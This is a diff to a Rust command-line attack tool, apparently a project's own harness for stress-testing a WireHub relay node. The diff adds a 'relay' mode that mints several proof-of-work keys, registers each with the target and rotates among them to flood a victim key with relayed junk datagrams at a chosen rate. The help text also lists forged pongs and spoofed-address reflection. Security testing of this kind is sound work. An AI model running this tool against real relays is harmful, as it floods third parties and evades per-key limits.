@@ -7,6 +7,8 @@
 //! wh-attack record     TARGET KEYFILE VICTIM SECONDS records of VICTIM's key, relayed by us
 //! wh-attack pong       TARGET KEYFILE OBSERVED SECONDS  unsolicited pongs, forged `observed`
 //! wh-attack reflect    TARGET KEYFILE SPOOF_IP       requests from a second address
+//! wh-attack relay      TARGET KEYS VICTIM SIZE RATE SECONDS  WireGuard-sized datagrams for
+//!                      VICTIM's key through the target as a relay, from KEYS fresh keys in turn
 //! ```
 //!
 //! TARGET is IP:PORT; RATE datagrams per second (0: as fast as it can);
@@ -40,6 +42,14 @@ fn run(args: &[String]) -> Result<()> {
         "record" => record(target, key(arg(2)?)?, arg(3)?.parse()?, arg(4)?.parse()?),
         "pong" => pong(target, key(arg(2)?)?, arg(3)?.parse()?, arg(4)?.parse()?),
         "reflect" => reflect(target, key(arg(2)?)?, arg(3)?.parse()?),
+        "relay" => relay(
+            target,
+            arg(2)?.parse()?,
+            arg(3)?.parse().map_err(|e| anyhow!("VICTIM: {e:?}"))?,
+            arg(4)?.parse()?,
+            arg(5)?.parse()?,
+            arg(6)?.parse()?,
+        ),
         other => bail!("unknown attack {other:?}"),
     }
 }
@@ -298,6 +308,78 @@ fn reflect(target: SocketAddr, key: PrivateKey, spoof: IpAddr) -> Result<()> {
         }
     }
     println!("sent_from_spoofed={sent} received_at_spoofed={received}");
+    Ok(())
+}
+
+/// A fresh key with the default proof of work (what a relay asks of a
+/// sender before it relays).
+fn fresh_key() -> Result<PrivateKey> {
+    loop {
+        let k = PrivateKey::generate().map_err(|e| anyhow!("no random source: {e}"))?;
+        if k.public_key().workbits(wirehub::keys::DEFAULT_NAMESPACE)
+            >= wirehub::keys::DEFAULT_WORKBITS
+        {
+            return Ok(k);
+        }
+    }
+}
+
+/// `keys` fresh keys, each of which meets the target (the challenge round
+/// trip), then take turns asking it to relay `size`-byte WireGuard-looking
+/// datagrams to `victim`, `rate` a second in all, for `seconds`.
+fn relay(
+    target: SocketAddr,
+    keys: usize,
+    victim: PublicKey,
+    size: usize,
+    rate: u64,
+    seconds: f64,
+) -> Result<()> {
+    let target_key = target_key()?;
+    let mut peers = Vec::with_capacity(keys);
+    for _ in 0..keys {
+        let mut p = Peer::new(fresh_key()?, target, socket_towards(target)?)?;
+        p.sock.set_read_timeout(Some(Duration::from_millis(1)))?;
+        p.target_key = Some(target_key);
+        p.send(&Message::Ping { id: 1, info: None })?;
+        peers.push(p);
+    }
+    let start = Instant::now();
+    while start.elapsed() < Duration::from_secs(5) {
+        let mut waiting = 0;
+        for p in peers.iter_mut().filter(|p| p.got.is_empty()) {
+            waiting += 1;
+            p.pump(Duration::from_millis(2));
+        }
+        if waiting == 0 {
+            break;
+        }
+    }
+    peers.retain(|p| !p.got.is_empty());
+    if peers.is_empty() {
+        bail!("the target answered none of the {keys} keys");
+    }
+    let met = peers.len();
+    let mut packet = vec![0u8; size.max(32)];
+    scramble(7, &mut packet);
+    packet[..4].copy_from_slice(&[4, 0, 0, 0]);
+    let msg = Message::RelayWg { to: victim, packet };
+    let start = Instant::now();
+    let end = Duration::from_secs_f64(seconds);
+    let (mut sent, mut bytes) = (0u64, 0u64);
+    while start.elapsed() < end {
+        let due = (start.elapsed().as_secs_f64() * rate as f64) as u64;
+        if rate > 0 && sent >= due {
+            std::thread::sleep(Duration::from_micros(200));
+            continue;
+        }
+        let i = (sent as usize) % met;
+        if let Ok(n) = peers[i].send(&msg) {
+            sent += 1;
+            bytes += n as u64;
+        }
+    }
+    println!("keys={met} sent={sent} bytes={bytes} seconds={seconds}");
     Ok(())
 }
 
